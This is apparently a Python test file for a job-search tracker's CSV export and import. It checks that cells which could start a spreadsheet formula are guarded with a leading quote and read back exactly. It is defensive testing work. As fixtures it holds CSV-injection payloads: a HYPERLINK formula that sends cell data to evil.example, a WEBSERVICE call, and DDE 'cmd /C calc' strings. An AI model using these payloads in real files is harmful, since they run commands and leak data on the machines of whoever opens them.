"""CSV formula injection: no exported cell starts a formula, and `nextyes import` reads every cell back exactly.

A cell beginning with "=", "+", "-", "@", a tab or a carriage return is run as a formula by spreadsheets
(OWASP: CSV injection). The export puts a single quote before it, and before any run of quotes that
ends in one of those, so the rule undoes exactly (`tui.exchange.csv_format`).
"""

from __future__ import annotations

import csv
import io
import tempfile
from datetime import date, datetime, time
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.support.clock import FIXED_NOW, FakeClock
from tests.support.shell import add
from tui.cli import main
from tui.core.models import (
    Activity,
    ActivityKind,
    Application,
    Contact,
    Interview,
    InterviewKind,
    Question,
    Settings,
    Stage,
    StageChange,
)
from tui.core.search import JobSearch
from tui.exchange.csv_format import CSV_TABLES, FORMULA_STARTS, as_written, export_csv, neutralised
from tui.exchange.importing import ParsedFile, read_file
from tui.store import Store

UTC = ZoneInfo("UTC")
STAMP = datetime(2026, 1, 1, 9, 0, tzinfo=UTC)
APPLIED = date(2026, 1, 5)
STARTS = sorted(FORMULA_STARTS)

# Text a spreadsheet would run, one for each start, and the classic payloads.
HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_search(text: str) -> JobSearch:
    """Every table with `text` in every cell that holds text a person typed or a file brought in."""
    application = Application(
        company=text,
        role=text,
        applied_on=APPLIED,
        stage=Stage.APPLIED,
        stage_history=[StageChange(stage=Stage.APPLIED, at=datetime.combine(APPLIED, time(12), UTC), day=APPLIED)],
        source=text,
        url=text,
        location=text,
        next_step=text,
        tags=[text],
        notes=text,
        created_at=STAMP,
        updated_at=STAMP,
    )
    contact = Contact(name=text, company=text, how_we_know=text, notes=text, created_at=STAMP, updated_at=STAMP)
    at = datetime(2026, 1, 6, 10, 0, tzinfo=UTC)
    activity = Activity(
        kind=ActivityKind.NETWORK,
        at=at,
        timezone="UTC",
        logical_day=at.date(),
        note=text,
        application_id=application.id,
        contact_id=contact.id,
        created_at=at,
        updated_at=at,
    )
    interview = Interview(
        application_id=application.id,
        at=at,
        timezone="UTC",
        day=at.date(),
        kind=InterviewKind.TECHNICAL,
        people=[text],
        went_well=text,
        change=text,
        questions=[Question(text=text)],
        notes=text,
        created_at=STAMP,
        updated_at=STAMP,
    )
    return JobSearch(
        settings=Settings(created_at=STAMP, updated_at=STAMP),
        applications=(application,),
        activities=(activity,),
        contacts=(contact,),
        interviews=(interview,),
    )


def cells(text: str) -> list[str]:
    """Every cell of a CSV file, header row left out."""
    return [cell for row in list(csv.reader(io.StringIO(text, newline="")))[1:] for cell in row]


# --- the rule ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("table", "text"), [(table, text) for table in CSV_TABLES for text in HOSTILE])
def test_no_cell_of_any_table_starts_a_formula(table: str, text: str) -> None:
    exported = export_csv(hostile_search(text), table)

    assert all(cell[:1] not in FORMULA_STARTS for cell in cells(exported))
    assert sum(cell == neutralised(text) for cell in cells(exported)) >= 1  # the text is there, guarded


def test_the_company_repeated_in_activities_and_interviews_is_guarded_too() -> None:
    search = hostile_search('=WEBSERVICE("http://evil.example")')
    for table in ("activities", "interviews"):
        [row] = csv.DictReader(io.StringIO(export_csv(search, table), newline=""))
        assert row["company"] == '\'=WEBSERVICE("http://evil.example")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-", "'-"),
        ("@channel", "'@channel"),
        ("\tindented", "'\tindented"),
        ("\r=1", "'\r=1"),
        ("'=1+1", "''=1+1"),  # a quote typed before a formula gets one more, so it comes back
        ("''-", "'''-"),
        ("'90s revival", "'90s revival"),  # a quote before anything else is left alone
        ("'", "'"),
        ("", ""),
        ("Acme", "Acme"),
        (" =1", " =1"),  # a space first: spreadsheets read text
    ],
)
def test_the_rule_by_example(text: str, written: str) -> None:
    assert neutralised(text) == written
    assert as_written(written) == text


ANY_TEXT = st.one_of(
    st.text(),
    st.builds(
        lambda quotes, start, rest: "'" * quotes + start + rest,
        st.integers(min_value=0, max_value=3),
        st.sampled_from(STARTS),
        st.text(),
    ),
)


@given(ANY_TEXT)
def test_the_rule_undoes_exactly_and_never_leaves_a_formula_start(text: str) -> None:
    assert as_written(neutralised(text)) == text
    assert neutralised(text)[:1] not in FORMULA_STARTS


@given(st.text())
def test_a_cell_read_back_is_written_again_as_it_was_unless_it_started_a_formula(cell: str) -> None:
    """The rule is a bijection onto the cells that start no formula: reading then writing changes none of them."""
    if cell[:1] not in FORMULA_STARTS:
        assert neutralised(as_written(cell)) == cell


def test_dates_ids_and_numbers_are_never_changed() -> None:
    """No column holds a negative number: dates, ids, ratings and rounds are written as they are."""
    search = hostile_search("=1")
    for table in CSV_TABLES:
        for row in csv.DictReader(io.StringIO(export_csv(search, table), newline="")):
            for column in ("id", "applied_on", "day", "at", "round", "rating"):
                if row.get(column):
                    assert not row[column].startswith("'"), (table, column, row[column])


# --- the import reads them back ----------------------------------------------------------------------------


def read_back(text: str) -> ParsedFile:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "applications.csv"
        path.write_text(text, encoding="utf-8", newline="")
        return read_file(path, now=FIXED_NOW, zone=UTC, rollover_hour=4)


FREE = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)
STARTING_A_FORMULA = st.builds(
    lambda quotes, start, rest: "'" * quotes + start + rest,
    st.integers(min_value=0, max_value=2),
    st.sampled_from(STARTS),
    FREE,
)
TEXT = st.one_of(FREE, STARTING_A_FORMULA)
NAME = TEXT.filter(lambda text: text.strip() and len(text) <= 200)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(company=NAME, role=NAME, notes=TEXT, source=TEXT, url=TEXT, location=TEXT, next_step=TEXT)
@example(company="'=1+1", role=" -", notes="\r\n@mention ", source="'", url="+", location="\t", next_step="''=x")
def test_any_text_comes_back_exactly_from_the_csv_export(
    company: str, role: str, notes: str, source: str, url: str, location: str, next_step: str
) -> None:
    record = Application(
        company=company,
        role=role,
        applied_on=APPLIED,
        stage=Stage.APPLIED,
        stage_history=[StageChange(stage=Stage.APPLIED, at=datetime.combine(APPLIED, time(12), UTC), day=APPLIED)],
        source=source,
        url=url,
        location=location,
        next_step=next_step,
        notes=notes,
        created_at=STAMP,
        updated_at=STAMP,
    )

    parsed = read_back(
        export_csv(JobSearch(settings=Settings(created_at=STAMP, updated_at=STAMP), applications=(record,)))
    )

    assert parsed.bad_rows == ()
    [item] = parsed.items
    back = item.record
    assert isinstance(back, Application)
    fields = ("id", "company", "role", "notes", "source", "url", "location", "next_step", "applied_on")
    assert {name: getattr(back, name) for name in fields} == {name: getattr(record, name) for name in fields}


def test_a_guarded_cell_in_any_csv_is_read_as_the_text_it_guards() -> None:
    """Other programs guard cells the same way; a hand-made CSV's cells are trimmed as before."""
    parsed = read_back("Company,Role,Date Applied,Notes,Location\n'=Acme,'-,2026-03-01, '+1 referral ,'90s loft\n")

    [item] = parsed.items
    record = item.record
    assert isinstance(record, Application)
    assert (record.company, record.role, record.notes, record.location) == ("=Acme", "-", "'+1 referral", "'90s loft")


def test_the_shell_round_trip_keeps_a_formula_as_text(
    run, tmp_path: Path, clock: FakeClock, capsys: pytest.CaptureFixture[str]
) -> None:
    add(run, '=HYPERLINK("http://evil.example")', "-", "--note", "'=already quoted")
    exported = tmp_path / "applications.csv"
    status, _, err = run("export", "--format", "csv", "--out", str(exported))
    assert status == 0, err
    assert all(cell[:1] not in FORMULA_STARTS for cell in cells(exported.read_text(encoding="utf-8")))

    fresh = tmp_path / "fresh.json"
    status = main(["import", str(exported), "--db", str(fresh)], now=clock)

    assert status == 0, capsys.readouterr().err
    [application] = Store(fresh, FakeClock()).load().applications
    assert (application.company, application.role, application.notes) == (
        '=HYPERLINK("http://evil.example")',
        "-",
        "'=already quoted",
    )
